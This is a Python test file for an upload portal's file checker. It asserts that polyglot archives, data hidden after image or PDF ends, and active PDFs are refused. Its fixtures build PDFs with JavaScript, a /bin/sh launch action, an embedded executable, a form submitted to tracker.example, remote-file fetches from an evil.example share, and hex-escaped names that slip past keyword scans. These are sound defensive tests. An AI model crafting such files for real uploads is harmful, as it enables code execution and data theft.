"""Files that are more than they say: another archive at their end, something behind a picture, a program inside a PDF."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from portal.core.errors import RuleBroken
from portal.documents.examine import ZIP_END
from tests.documents.making import SAMPLES, archive, intake_in, jpeg, pdf, take

JPEG, PNG, PDF = SAMPLES["image/jpeg"], SAMPLES["image/png"], SAMPLES["application/pdf"]


def with_comment(content: bytes, length: int) -> bytes:
    """The end record of the archive in it claims a comment of that length, as no strict reader would take it."""
    place = content.rindex(ZIP_END) + 20
    return content[:place] + length.to_bytes(2, "little") + content[place + 2:]


def in_text(packed: bytes) -> bytes:
    """A PNG that carries these bytes in a part for texts."""
    made, info = io.BytesIO(), PngInfo()
    info.add(b"tEXt", b"Comment\0" + packed)
    Image.open(io.BytesIO(PNG)).save(made, "PNG", pnginfo=info)
    return made.getvalue()


ARCHIVES = {
    "jpeg, two bytes changed": with_comment(JPEG + archive(), 65_535),
    "jpeg, comment too long by one": with_comment(JPEG + archive(), 1),
    "png text": in_text(archive()),
    "png text, two bytes changed": with_comment(in_text(archive()), 65_535),
    "pdf, two bytes changed": with_comment(PDF + archive(), 65_535),
    "pdf, more behind it": PDF + archive() + b"%" * 60_000,
}
TAILS = {"html": b"<script>alert(1)</script>", "7z": b"7z\xbc\xaf\x27\x1c" + bytes(40), "rar": b"Rar!\x1a\x07" + bytes(30)}


def refused(folder: Path, content: bytes) -> str:
    with pytest.raises(RuleBroken) as caught:
        take(intake_in(folder), content)
    return str(caught.value.message)


@pytest.mark.parametrize("name", ARCHIVES)
def test_an_archive_at_the_end_is_refused_whatever_its_comment(folder: Path, name: str) -> None:
    assert zipfile.ZipFile(io.BytesIO(ARCHIVES[name])).namelist() == ["a.txt"]
    assert refused(folder, ARCHIVES[name]).startswith("This file is two kinds")


@pytest.mark.parametrize("tail", TAILS.values(), ids=TAILS)
def test_something_behind_a_jpeg_is_refused(folder: Path, tail: bytes) -> None:
    for content in (JPEG + tail, JPEG + JPEG + tail, JPEG + bytes(8) + tail, JPEG + b"\xff\xd8" + tail):
        assert refused(folder, content).startswith("This picture has something hidden")


def test_what_phones_add_to_a_picture_is_taken(folder: Path) -> None:
    for content in (JPEG + bytes(64), JPEG + jpeg(20, 20), JPEG + bytes(3) + jpeg(20, 20) + bytes(1)):
        assert take(intake_in(folder), content).media_type == "image/jpeg"


def changed(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as document:
        change(document)
        document.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def runs_at_opening(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def runs_from_a_page(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(Dictionary(S=Name.Launch, F=String("/bin/sh")))
    document.pages[0].obj.AA = Dictionary(O=action)


def runs_from_a_name(document: pikepdf.Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript)])))


def carries_a_file(document: pikepdf.Pdf) -> None:
    document.attachments["setup.exe"] = b"MZ" + bytes(100)


def runs_from_a_stream(document: pikepdf.Pdf) -> None:
    document.Root.Spare = document.make_indirect(Stream(document, b"x", Dictionary(JS=String("app.alert(1)"))))


@pytest.mark.parametrize(
    "change", [runs_at_opening, runs_from_a_page, runs_from_a_name, carries_a_file, runs_from_a_stream]
)
def test_a_pdf_that_runs_something_is_refused(folder: Path, change: Callable[[pikepdf.Pdf], None]) -> None:
    assert "Print it as a new PDF" in refused(folder, changed(change))


def sends_the_form(document: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://tracker.example/")))
    document.Root.OpenAction = action


def reaches_for_a_file(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\a.pdf"))


def fetches_data(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.ImportData, F=String("\\\\evil.example\\a.fdf")))


def carries_a_form_that_runs(document: pikepdf.Pdf) -> None:
    script = b"<xdp:xdp><script contentType='application/x-javascript'>app.alert(1)</script></xdp:xdp>"
    document.Root.AcroForm = Dictionary(XFA=Stream(document, script), Fields=Array([]))


def shows_what_lies_elsewhere(document: pikepdf.Pdf) -> None:
    elsewhere = Stream(document, b"", Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1))
    elsewhere.F = Dictionary(FS=Name.URL, F=String("https://tracker.example/i.png"))
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=document.make_indirect(elsewhere)))


def calls_at_opening(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(Dictionary(S=Name.URI, URI=String("https://tracker.example/?ref=1")))


def calls_after_something_harmless(document: pikepdf.Pdf) -> None:
    call = document.make_indirect(Dictionary(S=Name.URI, URI=String("https://tracker.example/")))
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoTo, D=String("a"), Next=Array([call])))


def calls_in_a_circle(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(Dictionary(S=Name.GoTo, D=String("a")))
    action.Next = action
    document.Root.OpenAction = action


@pytest.mark.parametrize("change", [
    sends_the_form, reaches_for_a_file, fetches_data, carries_a_form_that_runs, shows_what_lies_elsewhere, calls_at_opening,
    calls_after_something_harmless, calls_in_a_circle,
])
def test_a_pdf_that_calls_somewhere_is_refused(folder: Path, change: Callable[[pikepdf.Pdf], None]) -> None:
    assert "or calls somewhere. Print it as a new PDF" in refused(folder, changed(change))


def test_a_link_that_waits_for_a_click_is_taken(folder: Path) -> None:
    def links(document: pikepdf.Pdf) -> None:
        link = Dictionary(S=Name.URI, URI=String("https://example.org/"))
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=link)
        document.pages[0].obj.Annots = Array([annotation])

    assert take(intake_in(folder), changed(links)).media_type == "application/pdf"


@pytest.mark.parametrize("tail", [*TAILS.values(), b"\x7fELF" + bytes(40), b"Rar!\x1a\x07 hidden\n%%EOF\n", b"junk\nRar!"])
def test_something_behind_a_pdf_is_refused(folder: Path, tail: bytes) -> None:
    for content in (PDF + tail, PDF.rstrip() + b"\r\n" + tail):
        assert refused(folder, content).startswith("This PDF has something behind its end")


def test_a_pdf_that_was_changed_later_is_taken(folder: Path) -> None:
    """A signature or a note is written behind the first end, as a new version of the same file."""
    start = int(PDF.split(b"startxref")[-1].split()[0])
    place = len(PDF) + 1
    more = b"90 0 obj\n<< /Note (later) >>\nendobj\n"
    table = b"xref\n90 1\n%010d 00000 n \n" % place
    trailer = b"trailer\n<< /Size 91 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (start, place + len(more))
    assert take(intake_in(folder), PDF + b"\n" + more + table + trailer).media_type == "application/pdf"
    assert take(intake_in(folder), PDF + b"\x00\x1a\n").media_type == "application/pdf"


@pytest.mark.parametrize("tail", [*TAILS.values(), b"\x7fELF" + bytes(40)])
def test_something_behind_a_png_is_refused_also_before_a_second_end(folder: Path, tail: bytes) -> None:
    for content in (PNG + tail, PNG + tail + PNG[-12:], PNG + tail + PNG[-8:]):
        assert refused(folder, content).startswith("This picture has something hidden")


def test_the_frame_of_a_picture_is_no_picture(folder: Path) -> None:
    hidden = b"\xff\xe1" + (602).to_bytes(2, "big") + b"Rar!\x1a\x07\x01\x00" + b"x" * 592
    assert refused(folder, JPEG + b"\xff\xd8" + hidden + b"\xff\xd9").startswith("This picture has something hidden")


def test_a_name_that_is_written_otherwise_is_the_same_name(folder: Path) -> None:
    plain = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as document:
        runs_at_opening(document)
        document.save(plain, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    hidden = plain.getvalue().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4AS ")
    assert b"/JavaScript" not in hidden
    assert "Print it as a new PDF" in refused(folder, hidden)


def test_words_about_programs_and_links_are_taken(folder: Path) -> None:
    def talks(document: pikepdf.Pdf) -> None:
        document.docinfo["/Title"] = "Learning /JavaScript and /JS"
        document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])

    assert take(intake_in(folder), changed(talks)).media_type == "application/pdf"
    assert take(intake_in(folder), pdf(300)).media_type == "application/pdf"
